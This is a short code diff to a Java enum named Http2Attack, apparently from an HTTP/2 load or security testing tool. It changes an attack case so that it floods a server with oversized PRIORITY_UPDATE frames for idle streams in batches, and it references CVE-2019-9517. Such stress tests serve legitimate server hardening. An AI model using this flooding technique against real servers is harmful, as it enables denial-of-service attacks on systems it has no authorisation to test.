@@ -191,7 +191,11 @@ enum Http2Attack implements Http2Load {
     PRIORITY_UPDATES_OF_IDLE_STREAMS(ReadMode.ALL) {
         @Override
         public void proceed(FrameClient client) throws IOException {
-            client.send(FrameClient.priorityUpdate(client.nextStream(), "u=1, a=" + "a".repeat(16_000)));
+            byte[][] frames = new byte[BATCH / 8][];
+            for (int i = 0; i < frames.length; i++) {
+                frames[i] = FrameClient.priorityUpdate(client.nextStream(), "u=1, a=" + "a".repeat(16_000));
+            }
+            client.send(frames);
         }
     },
     /** CVE-2019-9517 without a window. */
